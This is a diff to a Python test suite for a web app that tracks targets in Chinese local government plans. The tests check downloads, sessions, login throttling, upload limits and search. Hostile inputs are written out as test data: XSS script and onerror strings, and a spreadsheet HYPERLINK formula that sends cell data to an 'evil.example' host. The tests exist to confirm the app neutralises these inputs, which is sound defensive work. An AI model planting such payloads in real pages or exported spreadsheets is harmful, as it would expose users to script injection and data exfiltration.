@@ -9,8 +9,10 @@ import html
 import io
 import json
 import re
+import time
 from collections import Counter
 from collections.abc import Iterator
+from decimal import Decimal
 from pathlib import Path
 
 import pytest
@@ -20,6 +22,7 @@ from typer.testing import CliRunner
 
 from planwatch import store
 from planwatch.cli import app as cli
+from planwatch.corrections import corrections as store_corrections
 from planwatch.ingest import ingest
 from planwatch.models import Figure, FigureRecord
 from planwatch.store.db import dispose_engines
@@ -31,7 +34,7 @@ EXAMPLES = sorted((ROOT / "examples").glob("*.txt"))
 TOKEN = "s3cret-token"
 HOSTILE = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>"]
 HOSTILE_TEXT = (
-    "澜泽市2024年国民经济和社会发展计划<script>alert(1)</script>\n\n"
+    "澜泽市2024年国民经济和社会发展计划\n<script>alert(1)</script>\n\n"
     "一、2024年主要预期目标\n"
     "地区生产总值增长6%左右<img src=x onerror=alert(1)>;新增<script>alert(1)</script>城镇就业3万人以上;"
     "<img src=x onerror=alert(1)>居民消费价格涨幅3%左右。\n"
@@ -131,7 +134,7 @@ def test_overview_counts_are_the_scorecards(client: TestClient, books: str) -> N
     assert found == expected
     page = client.get("/").text
     assert page.count('data-testid="region-row"') == len(rows)
-    assert "<svg" in page and 'class="status-met"' in page
+    assert "<svg" in page and 'class="mark status-met"' in page
 
 
 def test_overview_filters_by_level_and_year(client: TestClient) -> None:
@@ -284,7 +287,8 @@ def test_every_table_downloads_as_csv_and_xlsx(client: TestClient, books: str) -
         as_csv = client.get(f"{url}{joiner}format=csv")
         assert as_csv.status_code == 200 and as_csv.headers["content-type"].startswith("text/csv"), url
         assert "attachment" in as_csv.headers["content-disposition"]
-        rows = list(csv.reader(io.StringIO(as_csv.text)))
+        assert as_csv.content.startswith(b"\xef\xbb\xbf"), url  # Excel reads UTF-8 after a byte-order mark
+        rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
         as_xlsx = client.get(f"{url}{joiner}format=xlsx")
         assert as_xlsx.status_code == 200, url
         sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
@@ -294,9 +298,16 @@ def test_every_table_downloads_as_csv_and_xlsx(client: TestClient, books: str) -
             continue
         assert len(rows) > 1, url
         assert len(cells) >= len(rows) - 1, url  # the annex sheet has a title row; others one per row
-    figures = list(csv.DictReader(io.StringIO(client.get("/api/figures?region=九原区&format=csv").text)))
+    figures = list(csv.DictReader(io.StringIO(client.get("/api/figures?region=九原区&format=csv").content.decode("utf-8-sig"))))
     assert len(figures) == len(store.figures(books, region="九原区"))
-    annex_rows = list(csv.reader(io.StringIO(client.get("/api/annex?region=包头市&year=2024&format=csv").text)))
+    assert {"编号", "指标", "数值", "单位", "比较", "原文", "文件名"} <= set(figures[0])  # Chinese headers by default
+    english = csv.DictReader(io.StringIO(client.get("/api/figures?region=九原区&format=csv&lang=en").text))
+    assert {"id", "indicator", "value", "unit", "op", "quote"} <= set(english.fieldnames or [])
+    client.cookies.clear()  # ?lang=en is remembered
+    scorecard = load_workbook(io.BytesIO(client.get("/api/scorecard?region=包头市&format=xlsx").content)).active
+    assert {"地区", "年份", "判定", "目标_数值", "结果_原文"} <= {c.value for c in scorecard[1]}
+    annex_rows = list(csv.reader(io.StringIO(
+        client.get("/api/annex?region=包头市&year=2024&format=csv").content.decode("utf-8-sig"))))
     assert annex_rows == list(csv.reader(io.StringIO(
         _cli("annex", "--db", books, "--region", "包头市", "--year", "2024", "--format", "csv"))))
     assert client.get("/api/regions?format=pdf").status_code == 400
@@ -344,6 +355,19 @@ def test_english_switch_is_remembered(client: TestClient) -> None:
     assert "Overview" in client.get("/documents").text  # the cookie carries it
     assert "总览" in client.get("/?lang=zh").text
     assert "总览" in client.get("/documents").text
+
+
+@pytest.mark.parametrize("url", ["/search?q=%E5%B0%B1%00%E4%B8%9A", "/api/search?q=%00", "/api/figures?region=%00",
+                                 "/documents?region=x%00", "/region/a%00b", "/api/region/a%00b"])
+def test_a_nul_character_is_a_clean_400(client: TestClient, url: str) -> None:
+    response = client.get(url)
+    assert response.status_code == 400 and "NUL" in response.text
+    assert "Content-Security-Policy" in response.headers
+
+
+def test_documents_show_their_source_as_given_never_a_server_path(client: TestClient, books: str) -> None:
+    sources = {d["source"] for d in client.get("/api/documents?per_page=100").json()["rows"]}
+    assert sources == {str(p) for p in _seed_sources()}  # ingested file by file: the paths as given
 
 
 # ---- hostile documents ------------------------------------------------------------------------------
@@ -446,7 +470,7 @@ def test_api_writes_need_the_bearer_token(small_books: str, tmp_path: Path) -> N
 
     good = (ROOT / "examples" / "澜泽市_2025年政府工作报告.txt").read_bytes()
     new = "禾麓区2025年国民经济和社会发展计划\n2025年地区生产总值增长6%左右。\n".encode()
-    response = client.post("/api/upload", headers=bearer, data={"region": "禾麓区"}, files=[
+    response = client.post("/api/upload", headers=bearer, data={"region": "九原区"}, files=[
         ("files", ("new.txt", new, "text/plain")), ("files", ("again.txt", good, "text/plain")),
         ("files", ("broken.pdf", b"%PDF-1.4 not really", "application/pdf"))])
     assert response.status_code == 200
@@ -455,7 +479,10 @@ def test_api_writes_need_the_bearer_token(small_books: str, tmp_path: Path) -> N
     assert outcomes["again.txt"]["status"] == "unchanged"
     assert outcomes["broken.pdf"]["status"] == "failed" and outcomes["broken.pdf"]["reason"]
     stored = store.get_document(small_books, outcomes["new.txt"]["doc_id"])
-    assert stored.name == "new.txt" and stored.facts.region == "禾麓区"
+    assert stored.name == "new.txt" and stored.facts.region == "九原区"
+    listed = {d["id"]: d["source"] for d in client.get("/api/documents?per_page=100").json()["rows"]}
+    assert listed[stored.id] == "new.txt"  # the file's name, not the server's temporary folder
+    assert not any("planwatch-upload" in source or source.startswith("/tmp") for source in listed.values())
 
 
 def test_forms_need_a_login_and_the_csrf_token(small_books: str) -> None:
@@ -504,11 +531,73 @@ def test_a_correction_through_the_form_shows_in_the_log(small_books: str) -> Non
                                          "value": "6.8", "why": "x"}).status_code == 401
 
 
-def test_the_session_cookie_is_strict(small_books: str) -> None:
+def test_the_session_cookie_is_strict_and_set_by_logging_in_only(small_books: str) -> None:
     client = TestClient(create_app(small_books, token=TOKEN))
-    response = client.get("/login")
+    form_cookie = client.get("/login").headers["set-cookie"].lower()
+    assert "planwatch_login=" in form_cookie and "samesite=strict" in form_cookie and "httponly" in form_cookie
+    assert "planwatch_session" not in form_cookie
+    response = client.post("/login", data={"csrf_token": _csrf(client.get("/login").text), "name": "张三",
+                                           "token": TOKEN, "next": "/"}, follow_redirects=False)
     cookie = response.headers["set-cookie"].lower()
     assert "planwatch_session=" in cookie and "samesite=strict" in cookie and "httponly" in cookie
+
+
+def test_a_visit_without_the_cookie_leaves_the_session_alone(small_books: str) -> None:
+    """A link from another site arrives without the SameSite=Strict cookie: the page it opens may not
+    answer with a new session cookie, which would replace the logged-in one (issue 9: a link logged the
+    user out)."""
+    app = create_app(small_books, token=TOKEN)
+    user = TestClient(app)
+    login(user)
+    from_elsewhere = TestClient(app)  # the same browser, its cookie withheld
+    doc_id = store.documents(small_books)[0].id
+    for url in ("/", f"/doc/{doc_id}", "/documents", "/corrections", "/upload", "/search?q=地区生产总值", "/login"):
+        response = from_elsewhere.get(url)
+        assert response.status_code == 200, url
+        assert "planwatch_session" not in response.headers.get("set-cookie", ""), url
+    assert 'data-testid="correction-form"' in user.get(f"/doc/{doc_id}").text
+
+
+def test_logging_out_ends_the_session_on_the_server(small_books: str) -> None:
+    app = create_app(small_books, token=TOKEN)
+    client = TestClient(app)
+    login(client)
+    old_cookie = client.cookies.get("planwatch_session")
+    figure = store.figures(small_books, kind="target")[0]
+    csrf = _csrf(client.get(f"/doc/{figure.doc_id}").text)
+    assert client.post("/logout", data={"csrf_token": csrf}, follow_redirects=False).status_code == 303
+    replay = TestClient(app)  # someone who kept the cookie and the token
+    replay.cookies.set("planwatch_session", old_cookie)
+    response = replay.post("/correct", data={"csrf_token": csrf, "figure_id": figure.id, "field": "value",
+                                             "value": "1", "why": "after logout"})
+    assert response.status_code == 401
+    assert 'data-testid="correction-form"' not in replay.get(f"/doc/{figure.doc_id}").text
+    assert not store_corrections(small_books)
+
+
+def test_login_makes_a_guesser_wait_longer_each_time(small_books: str) -> None:
+    from planwatch.web.auth import FREE_TRIES
+
+    app = create_app(small_books, token=TOKEN)
+    now = [1000.0]
+    app.state.login_throttle.clock = lambda: now[0]
+    client = TestClient(app)
+    csrf = _csrf(client.get("/login").text)
+
+    def attempt(token: str):  # type: ignore[no-untyped-def]
+        return client.post("/login", data={"csrf_token": csrf, "name": "猜", "token": token, "next": "/"},
+                           follow_redirects=False)
+
+    for _ in range(FREE_TRIES):
+        assert attempt("guess").status_code == 401
+    refused = attempt(TOKEN)  # even the right token waits: the lock is checked first
+    assert refused.status_code == 429 and refused.headers["retry-after"] == "1"
+    now[0] += 1
+    assert attempt("guess").status_code == 401
+    assert attempt(TOKEN).headers["retry-after"] == "2"
+    now[0] += 2
+    assert attempt(TOKEN).status_code == 303
+    assert attempt("guess").status_code == 401  # a success forgets the failures
 
 
 def test_upload_through_the_form(small_books: str) -> None:
@@ -529,3 +618,264 @@ def test_upload_through_the_form(small_books: str) -> None:
     assert len(store.documents(small_books)) == len(EXAMPLES) + 1
     after = {r["name"]: r for r in client.get("/api/regions").json()["rows"]}  # a new document drops the cache
     assert after["澜泽市"]["documents"] == before["澜泽市"]["documents"] + 1
+
+
+# ---- what one document may cost ---------------------------------------------------------------------
+
+def test_a_hostile_upload_at_the_size_limit_is_refused_and_leaves_the_pages_fast(small_books: str) -> None:
+    """Issue 9: a 19 MB text gave 485 924 figures, then `/api/scorecard` took 29 s and `/doc/N` never
+    finished. A text at the byte limit is refused for its length, with the reason, and the pages anyone
+    can open stay as fast as before (the safety property: timed with a generous margin)."""
+    from planwatch.load.limits import MAX_TEXT_BYTES
+
+    line = "包头市2024年地区生产总值增长6.5%左右，城镇新增就业3万人以上。\n".encode()
+    hostile = line * (MAX_TEXT_BYTES // len(line))
+    client = TestClient(create_app(small_books, token=TOKEN))
+    for url in ("/", "/api/scorecard"):  # warm: the first request of a process loads the grammar
+        client.get(url)
+    response = client.post("/api/upload", headers={"Authorization": f"Bearer {TOKEN}"},
+                           files=[("files", ("hostile.txt", hostile, "text/plain"))])
+    [outcome] = response.json()["outcomes"]
+    assert outcome["status"] == "failed" and "over the 1,000,000-character limit" in outcome["reason"]
+    assert len(store.documents(small_books)) == len(EXAMPLES)
+    for url in ("/", "/api/scorecard"):
+        started = time.perf_counter()
+        assert client.get(url).status_code == 200
+        assert time.perf_counter() - started < 1, url
+
+
+@pytest.fixture
+def long_document(db_url: str) -> tuple[str, int]:
+    """A stored document of 150 000 characters with 3 000 figures spread over it."""
+    from sqlalchemy.orm import Session
+
+    from planwatch.models import Document, DocumentFacts
+    from planwatch.store.db import get_engine, writer
+    from planwatch.store.write import store_document
+
+    sentence = "地区生产总值增长6.5%左右。\n"
+    text = sentence * (150_000 // len(sentence))
+    step = len(text) // 3000 // len(sentence) * len(sentence)
+    figures = [Figure(indicator="gdp", label="地区生产总值", measure="growth", value=Decimal("6.5"), unit="%",
+                      op="approx", kind="target", year=2024, region="九原区", quote="6.5%左右",
+                      start=i * step + 8, end=i * step + 14) for i in range(3000)]
+    document = Document(text=text, name="long.txt", sha256="f" * 64,
+                        facts=DocumentFacts(region="九原区", doc_type="plan_notice", plan_year=2024))
+    with Session(writer(get_engine(db_url))) as session, session.begin():
+        doc_id = store_document(session, document, figures, engine_version="test")
+    return db_url, doc_id
+
+
+def test_a_long_document_is_shown_a_part_and_a_page_at_a_time(long_document: tuple[str, int]) -> None:
+    from planwatch.web.views.document import FIGURES_PER_PAGE, TEXT_WINDOW
+
+    db, doc_id = long_document
+    client = TestClient(create_app(db))
+    page = client.get(f"/doc/{doc_id}").text
+    assert 'data-testid="text-parts"' in page and len(_text_of(_document_text_div(page))) <= TEXT_WINDOW
+    shown = set(re.findall(r'data-figure-ids="(\d+)"', page))
+    listed = re.findall(r'<tr data-figure-id="(\d+)"', page)
+    assert 0 < len(shown) < 3000 and len(listed) == FIGURES_PER_PAGE
+    data_block = json.loads(re.search(r'id="figure-data">(.*?)</script>', page, re.S).group(1))
+    assert len(data_block) < 3000
+    last = store.figures(db, doc_id=doc_id)[-1]
+    opened = client.get(f"/doc/{doc_id}?figure={last.id}").text  # opens the part that quotes it
+    assert f'id="f{last.id}"' in opened and f'data-figure-id="{last.id}"' in opened
+    parts = re.search(r"共(\d+)部分", opened).group(1)
+    assert f"正文第{parts}部分" in opened
+    body = client.get(f"/api/doc/{doc_id}/figures").json()
+    assert body["total"] == 3000 and len(body["rows"]) == 1000 and body["next"]
+    assert client.get(f"/doc/{doc_id}?part=99").status_code == 400
+
+
+# ---- amending documents: regions from the gazetteer, region changed later, deletion -------------------
+
+def test_an_upload_region_must_be_a_place_of_the_gazetteer(small_books: str) -> None:
+    client = TestClient(create_app(small_books, token=TOKEN))
+    bearer = {"Authorization": f"Bearer {TOKEN}"}
+    text = "2025年国民经济和社会发展计划\n2025年地区生产总值增长6%左右。\n".encode()
+    for region, hint in (("测试/县", "is not a region of the gazetteer"), ("九原县", "did you mean")):
+        response = client.post("/api/upload", headers=bearer, data={"region": region},
+                               files=[("files", ("plan.txt", text, "text/plain"))])
+        assert response.status_code == 400 and hint in response.json()["detail"], region
+    assert len(store.documents(small_books)) == len(EXAMPLES)
+
+
+def test_a_region_given_at_upload_can_be_changed_later_and_is_logged(small_books: str) -> None:
+    client = TestClient(create_app(small_books, token=TOKEN))
+    bearer = {"Authorization": f"Bearer {TOKEN}"}
+    text = "2025年国民经济和社会发展计划\n一、主要预期目标\n地区生产总值增长6%左右。\n".encode()
+    uploaded = client.post("/api/upload", headers=bearer, data={"region": "九原区", "year": "2025"},
+                           files=[("files", ("plan.txt", text, "text/plain"))]).json()["outcomes"][0]
+    doc_id = uploaded["doc_id"]
+    assert store.get_document(small_books, doc_id).facts.region == "九原区"
+    assert client.post(f"/api/doc/{doc_id}/region", json={"region": "昆都仑区", "why": "x"}).status_code == 401
+    assert client.post(f"/api/doc/{doc_id}/region", headers=bearer,
+                       json={"region": "测试/县", "why": "typo"}).status_code == 400
+    changed = client.post(f"/api/doc/{doc_id}/region", headers=bearer,
+                          json={"region": "包头市昆都仑区", "why": "上传时选错了地区", "author": "李四"})
+    assert changed.status_code == 200, changed.text
+    document = store.get_document(small_books, doc_id)
+    assert (document.facts.region, document.overrides["region"]) == ("昆都仑区", "昆都仑区")
+    assert {r.figure.region for r in store.figures(small_books, doc_id=doc_id)} <= {"昆都仑区", None}
+    [logged] = client.get("/api/corrections").json()["rows"]
+    assert (logged["field"], logged["old"], logged["new"], logged["author"], logged["why"]) == \
+        ("region", "九原区", "昆都仑区", "李四", "上传时选错了地区")
+    login(client)
+    csrf = _csrf(client.get(f"/doc/{doc_id}").text)
+    response = client.post(f"/doc/{doc_id}/region", data={"csrf_token": csrf, "region": "", "why": "按正文"},
+                           follow_redirects=False)
+    assert response.status_code == 303
+    assert "region" not in store.get_document(small_books, doc_id).overrides  # the text decides again
+
+
+def test_a_document_can_be_deleted_with_its_figures_and_it_is_logged(small_books: str) -> None:
+    client = TestClient(create_app(small_books, token=TOKEN))
+    bearer = {"Authorization": f"Bearer {TOKEN}"}
+    first, second = store.documents(small_books)[:2]
+    assert client.request("DELETE", f"/api/doc/{first.id}", json={"why": "x"}).status_code == 401
+    gone = client.request("DELETE", f"/api/doc/{first.id}", headers=bearer, json={"why": "重复的文件"})
+    assert gone.status_code == 200 and gone.json() == {"deleted": first.id, "name": first.name}
+    assert client.get(f"/doc/{first.id}").status_code == 404
+    assert store.figures(small_books, doc_id=first.id) == []
+    assert client.request("DELETE", f"/api/doc/{first.id}", headers=bearer, json={"why": "again"}).status_code == 404
+    login(client)
+    csrf = _csrf(client.get(f"/doc/{second.id}").text)
+    assert 'data-testid="delete-form"' in client.get(f"/doc/{second.id}").text
+    response = client.post(f"/doc/{second.id}/delete", data={"csrf_token": csrf, "why": "不是本地区的"},
+                           follow_redirects=False)
+    assert response.status_code == 303 and store.get_document(small_books, second.id) is None
+    log = client.get("/api/corrections").json()["rows"]
+    assert [(r["field"], r["old"], r["new"], r["why"]) for r in log] == [
+        ("document", second.name, None, "不是本地区的"), ("document", first.name, None, "重复的文件")]
+    assert len(store.documents(small_books)) == len(EXAMPLES) - 2
+
+
+# ---- absurd values and formula cells -------------------------------------------------------------------
+
+def test_absurd_corrections_are_400_through_the_form_and_the_api(small_books: str) -> None:
+    client = TestClient(create_app(small_books, token=TOKEN))
+    figure = store.figures(small_books, kind="target")[0]
+    bearer = {"Authorization": f"Bearer {TOKEN}"}
+    for changes in ({"value": "1e999999"}, {"value": "NaN"}, {"unit": "=1+1"}, {"op": "about"},
+                    {"year": "20240"}, {"region": "测试/县"}):
+        response = client.post(f"/api/figure/{figure.id}/corrections", headers=bearer,
+                               json={"changes": changes, "why": "试一试"})
+        assert response.status_code == 400, changes
+    login(client)
+    csrf = _csrf(client.get(f"/doc/{figure.doc_id}").text)
+    response = client.post("/correct", data={"csrf_token": csrf, "figure_id": figure.id, "field": "value",
+                                             "value": "1e999999", "why": "试一试"})
+    assert response.status_code == 400 and "more than 15 digits before the point" in response.text
+    assert not store_corrections(small_books)
+    assert client.get("/api/scorecard").status_code == 200
+
+
+def test_downloads_never_start_a_formula(small_books: str) -> None:
+    client = TestClient(create_app(small_books, token=TOKEN))
+    figure = store.figures(small_books, kind="target", indicator="gdp")[0]
+    reason = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
+    response = client.post(f"/api/figure/{figure.id}/corrections", headers={"Authorization": f"Bearer {TOKEN}"},
+                           json={"changes": {"label": "@SUM(1,2)", "value": "-2.5"}, "why": reason})
+    assert response.status_code == 201
+    log = list(csv.DictReader(io.StringIO(client.get("/api/corrections?format=csv&lang=en").text)))
+    assert {row["why"] for row in log} == {"'" + reason}
+    figures = list(csv.DictReader(io.StringIO(client.get(f"/api/figures?doc_id={figure.doc_id}&format=csv&lang=en").text)))
+    fixed = next(row for row in figures if row["id"] == str(figure.id))
+    assert (fixed["label"], fixed["value"]) == ("'@SUM(1,2)", "-2.5")  # text neutralised, the number kept
+    sheet = load_workbook(io.BytesIO(client.get("/api/corrections?format=xlsx&lang=en").content)).active
+    header = [c.value for c in sheet[1]]
+    cells = [row[header.index("why")] for row in sheet.iter_rows(min_row=2)]
+    assert {c.value for c in cells} == {reason} and {c.data_type for c in cells} == {"s"}
+
+
+# ---- the views people come for ----------------------------------------------------------------------
+
+def test_the_indicator_index_counts_governments_and_years(client: TestClient, books: str) -> None:
+    rows = {r["indicator"]: r for r in client.get("/api/indicators").json()["rows"]}
+    gdp = store.figures(books, indicator="gdp")
+    assert rows["gdp"]["governments"] == len({r.figure.region or r.region for r in gdp})
+    assert rows["gdp"]["years"] == len({r.figure.year for r in gdp if r.figure.year is not None})
+    page = client.get("/indicators").text
+    assert 'data-testid="indicator-index"' in page and 'href="/indicator/gdp"' in page
+
+
+def test_the_indicator_table_filters_sorts_and_counts(client: TestClient) -> None:
+    everything = client.get("/api/indicator/gdp?year=2024").json()
+    levels = Counter(r["level"] or "unknown" for r in everything["rows"])
+    assert everything["facets"]["level"] == dict(levels)
+    counties = client.get("/api/indicator/gdp?year=2024&level=county").json()["rows"]
+    assert counties and len(counties) == levels["county"] and {r["level"] for r in counties} == {"county"}
+    by_target = client.get("/api/indicator/gdp?year=2024&sort=target&desc=true").json()["rows"]
+    values = [r["target"]["value"] for r in by_target if r["target"]["value"] is not None]
+    assert values == sorted(values, reverse=True)
+    assert client.get("/api/indicator/gdp?year=2024&sort=nonsense").status_code == 400
+    page = client.get("/indicator/gdp?year=2024&level=county").text
+    assert 'data-testid="facet-level"' in page and 'data-testid="indicator-trend"' in page
+
+
+def test_the_comparison_page_puts_each_child_beside_its_parent(client: TestClient) -> None:
+    rows = client.get("/api/indicator/gdp?year=2024").json()["rows"]
+    paired = [r for r in rows if r["parent_target"] is not None]
+    assert paired
+    page = client.get("/compare?year=2024&indicator=gdp").text
+    for row in paired:
+        assert f'data-region="{row["region"]}"' in page
+    escalating = [r["region"] for r in paired if r["escalates"]]
+    only = client.get("/compare?year=2024&indicator=gdp&escalating=true").text
+    assert only.count('data-escalates="true"') == len(escalating)
+    assert 'data-escalates="false"' not in only
+
+
+def test_a_region_with_no_document_of_its_own_shows_its_children(client: TestClient) -> None:
+    page = client.get("/region/内蒙古自治区")  # the parent of 包头市 and 乌海市 in the gazetteer
+    assert page.status_code == 200
+    assert 'data-testid="no-documents"' in page.text and "包头市" in page.text and "乌海市" in page.text
+    below = client.get("/api/region/包头市").json()["gazetteer_children"]  # linked from 包头市's page
+    assert below and client.get(f"/region/{below[0]}").status_code == 200
+    assert client.get("/region/无此地").status_code == 404
+
+
+def test_verdicts_say_their_gap_in_units_and_their_rule(client: TestClient) -> None:
+    page = client.get("/region/包头市").text
+    assert 'data-testid="verdict-why"' in page and "按下限" in page
+    assert re.search(r'data-testid="gap">差距 [+−]\d+(\.\d+)?个百分点', page)
+
+
+def test_no_raw_code_in_the_chinese_pages(client: TestClient, books: str) -> None:
+    doc = next(d for d in store.documents(books) if d.facts.region == "九原区")
+    other = next(r for r in store.figures(books, doc_id=doc.id) if r.figure.indicator == "other")
+    page = client.get(f"/doc/{doc.id}?figure={other.id}").text
+    panel = page[page.index('data-testid="figure-detail"'):page.index("</aside>")]
+    assert f'<dd data-field="indicator">{html.escape(other.figure.label)}</dd>' in panel
+    assert not re.search(r'data-field="(measure|op)">(growth|level|change_pp|approx|ge|gt|le|lt|eq)<', panel)
+    figure_table = page[page.index('data-testid="figure-table"'):]
+    assert ">other<" not in figure_table
+
+
+def test_documents_filter_by_facets_with_counts(client: TestClient, books: str) -> None:
+    everything = client.get("/api/documents").json()
+    types = Counter(d.facts.doc_type for d in store.documents(books))
+    assert everything["facets"]["doc_type"] == dict(types)
+    kind, n = types.most_common(1)[0]
+    narrowed = client.get(f"/api/documents?doc_type={kind}").json()
+    assert narrowed["total"] == n and {d["doc_type"] for d in narrowed["rows"]} == {kind}
+    page = client.get("/documents?sort=published&desc=true").text
+    assert 'data-testid="facet-doc_type"' in page and 'data-sort="published"' in page
+
+
+def test_search_knows_the_catalogs_synonyms_and_narrows(client: TestClient, books: str) -> None:
+    body = client.get("/api/search?q=GDP&year=2024&kind=target").json()
+    assert body["indicators"] == ["gdp"]
+    expected = [r for r in store.figures(books, indicator="gdp", year=2024, kind="target")]
+    assert body["figures"]["total"] == len(expected) > 0
+    first = body["figures"]["rows"][0]
+    assert first["indicator"] == "gdp" and first["kind"] == "target" and first["year"] == 2024
+    assert first["verdict_url"].endswith(f"#v-2024-gdp-{first['measure']}") and first["text"]
+    assert client.get("/api/search?q=社零").json()["indicators"] == ["retail_sales"]
+    assert client.get("/api/search?q=规上工业").json()["indicators"] == ["industrial_va"]
+    assert client.get("/api/search?q=就业").json()["indicators"] == []
+    ops = {r["op"] for r in client.get("/api/search?q=GDP&per_page=100").json()["figures"]["rows"]}
+    assert "approx" in ops  # and the page writes it: 6%左右, not 6
+    assert "左右" in client.get("/search?q=GDP&kind=target").text
+    assert client.get("/api/search?q=GDP&kind=nonsense").status_code == 400
